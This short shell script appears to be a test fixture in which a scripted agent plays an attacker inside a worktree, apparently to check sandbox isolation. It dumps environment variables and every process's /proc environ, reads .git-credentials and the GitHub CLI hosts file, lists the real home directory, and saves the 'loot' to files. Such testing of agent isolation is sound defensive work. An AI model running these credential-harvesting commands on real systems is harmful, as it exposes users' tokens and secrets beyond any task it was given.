# Sourced by the scripted agent in T1's worktree. Collects every
# environment and credential file it can reach and commits the loot.
set +e # an attacker keeps going when a step is refused
{
  env
  for p in /proc/[0-9]*; do cat "$p/environ"; echo; cat "$p/cmdline"; echo; done
  cat "$HOME/.git-credentials" @REALHOME@/.git-credentials @REALHOME@/.config/gh/hosts.yml
  ls -la @REALHOME@
} 2>&1 | tr '\0' '\n' > a/loot.txt
cp a/loot.txt "$HOME/loot.txt" 2>/dev/null || true
mkdir -p a && echo "T1 was here" > a/t1.txt
